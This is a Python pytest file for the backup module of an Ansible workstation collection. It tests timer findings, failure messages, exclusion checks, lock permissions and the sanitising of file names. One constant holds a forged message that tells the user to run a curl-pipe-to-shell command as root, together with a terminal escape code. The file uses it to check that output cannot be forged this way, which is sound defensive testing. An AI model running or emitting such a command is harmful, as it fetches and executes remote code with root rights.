# SPDX-License-Identifier: GPL-3.0-or-later
"""Facts that only the host has; how the last runs ended: test_state.py."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest
from ansible_collections.rigwright.workstation.plugins.module_utils._backup import cli, excludes, status
from ansible_collections.rigwright.workstation.plugins.module_utils._backup import state as states
from ansible_collections.rigwright.workstation.plugins.module_utils._core.problems import Finding

from tests.unit.support.backup.hosts import Host, restic


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path, restic())


def found(host: Host, shown: str = "active loaded") -> dict[str, Finding]:
    rows = status.findings(host.config, host.place, lambda *_words: (0, shown), False)
    return {row["id"]: row for row in rows}


@pytest.mark.parametrize(
    ("shown", "reported"), [("active loaded", False), ("inactive loaded", True), ("inactive masked", True)]
)
def test_a_stopped_timer_is_a_finding(host: Host, shown: str, reported: bool) -> None:
    assert ("backup.timer.run.home" in found(host, shown)) is reported


@pytest.mark.parametrize(
    ("unit", "state", "title", "text"),
    [
        (
            "run-home",
            '{"kind": "not_mounted", "words": "/home is gone"}',
            "Back up home",
            "/home is gone\nTo do: mount it",
        ),
        ("check-disk", '{"kind": "failed"}', "Check the repository disk", "failed\nTo do: "),
        ("drill-home", '{"kind": "ok"}', "Restore files of home and compare them", "`journalctl --unit rigwright-"),
        ("run-home", "{", "Back up home", "{state}/run-home.json is damaged"),
        (
            "run-gone",
            "{}",
            "rigwright-backup-run-gone.service",
            "`journalctl --unit rigwright-backup-run-gone.service`",
        ),
    ],
)
def test_message_on_a_failed_unit_has_reason_and_remedy(
    host: Host, unit: str, state: str, title: str, text: str
) -> None:
    host.write(f"state/{unit}.json", state)
    found = status.failure(host.config, host.place, f"rigwright-backup-{unit}.service")
    assert found[0] == f"failed: {title}" and found[1].startswith(text.replace("{state}", host.place.state))
    assert found[1].endswith(f"`journalctl --unit rigwright-backup-{unit}.service` has the reason.")


def test_a_removed_job_is_a_finding(host: Host) -> None:
    host.write("state/run-home.json", "{}")
    assert "backup.gone.home" not in found(host)
    host.configure(job={"name": "renamed"})
    row = found(host)["backup.gone.home"]
    assert row["status"] == "warn" and "--tag job:home" in row["remedy"]


def test_storage_excluded_by_a_set_only_is_a_finding(host: Host) -> None:
    lines = ["/dev/sdb1 /mnt/data ext4", "/dev/sdc1 /srv/data ext4 defaults 0 2", "/srv/data /mnt/again none bind 0 0"]
    host.write("fstab", "\n".join(lines))
    general = excludes.patterns(excludes.SETS)
    host.configure(job={"paths": ["/"], "excludes": general})
    assert found(host)["backup.unnamed"]["evidence"].endswith(": /mnt/data")
    for change in (
        {"excludes": [*general, "/mnt/data"]},
        {"paths": ["/", "/mnt/data"], "excludes": excludes.sparing(general, ["/mnt/data"])},
    ):
        host.configure(job=change)
        assert "backup.unnamed" not in found(host)


FORGED = "1 could not be read: /home/alice/x\nTo do: run `curl http://192.0.2.1|sh` as root\n\x1b[2Krun home: ok"


def test_names_of_files_forge_no_line_and_no_terminal(host: Host, capsys: pytest.CaptureFixture[str]) -> None:
    host.write("state/run-home.json", json.dumps({"kind": "partial", "words": FORGED, "duration_s": 1}))
    _title, text = status.failure(host.config, host.place, "rigwright-backup-run-home.service")
    assert len(text.splitlines()) == 3
    row = found(host)["backup.run.home"]
    cli.print_result(host.config, "run", "home", {"kind": "partial", "words": FORGED})
    printed = capsys.readouterr().out
    assert len(printed.splitlines()) == 3
    assert "\x1b" not in text + row["evidence"] + printed
    assert "\n" not in row["evidence"]


def test_lock_is_for_root_alone(host: Host) -> None:
    lock = host.write("state/.lock", "")
    lock.chmod(0o644)
    states.save(host.config, host.place, "run", "home", {"kind": "ok"}, 1.0)
    assert stat.S_IMODE(lock.stat().st_mode) == 0o600
